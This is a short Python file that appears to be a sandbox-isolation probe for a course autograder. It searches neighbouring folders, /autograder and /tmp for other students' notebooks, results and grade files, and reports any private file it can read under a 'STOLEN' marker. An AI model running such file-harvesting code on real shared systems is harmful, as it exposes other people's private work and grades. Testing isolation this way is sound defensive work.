"""
kind: reading
tries: Notebooks and results of other students beside, above and below the working folder.
plain: yes
leaks: STOLEN
"""

from pathlib import Path

import seminar

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


own = Path.cwd()
roots = [own.parent, own.parent.parent, Path("/autograder"), Path("/tmp"), *list(Path(seminar.__file__).parents)[:3]]
for root in roots:
    for pattern in ("*.ipynb", "*/*.ipynb", "results*/*/results.json", "results*/grades.csv", "submissions/*"):
        for path in root.glob(pattern):
            try:
                private = path.suffix in (".json", ".csv") or not path.stat().st_mode & 0o004
                if private and own not in path.resolve().parents and path.is_file():
                    keep(f"{path}: {path.read_text(errors='replace')[:80]}")
            except OSError:
                pass
